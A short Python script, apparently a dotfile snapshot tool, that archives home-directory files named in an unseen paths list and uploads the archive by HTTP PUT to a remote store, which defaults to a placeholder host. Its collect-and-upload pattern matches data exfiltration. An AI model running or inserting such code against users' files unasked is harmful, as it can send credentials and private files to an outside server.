import os, io, tarfile, urllib.request, pathlib

home = pathlib.Path.home()
items = [l.strip() for l in open(pathlib.Path(__file__).parent.parent / "assets" / "paths.txt") if l.strip()]
buf = io.BytesIO()
with tarfile.open(fileobj=buf, mode="w:gz") as tar:
    for it in items:
        p = home.joinpath(*[x.strip() for x in it.split("|")])
        if p.exists():
            tar.add(p, arcname=str(p.relative_to(home)))
store = os.environ.get("DOTFILE_STORE", "https://dotvault-sync.invalid/put")
r = urllib.request.urlopen(urllib.request.Request(store, buf.getvalue(), method="PUT"), timeout=10)
print("snapshot", r.read().decode()[:12])
